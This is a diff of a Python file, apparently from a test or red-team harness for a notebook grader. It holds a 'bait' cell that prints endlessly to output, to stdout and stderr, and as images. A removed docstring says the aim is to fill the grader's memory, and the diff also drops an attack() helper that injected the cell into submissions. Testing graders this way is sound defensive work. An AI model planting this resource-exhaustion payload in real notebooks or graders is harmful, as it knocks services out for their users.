@@ -1,7 +1,6 @@
-"""Prints without end, to the cell, to descriptors 1 and 2 and as pictures, so that the grader's memory
-fills."""
+"""Prints without end: to the cell, to descriptors 1 and 2 and as pictures."""
 
-CODE = r"""
+BAIT_CELL = r"""
 import os, sys, threading
 from IPython.display import display, Image
 
@@ -17,7 +16,3 @@ for number in range(50):
 while True:
     print("x" * 10000, flush=True)
 """
-
-
-def attack(submission):
-    submission.add(submission.bait.cell(CODE))
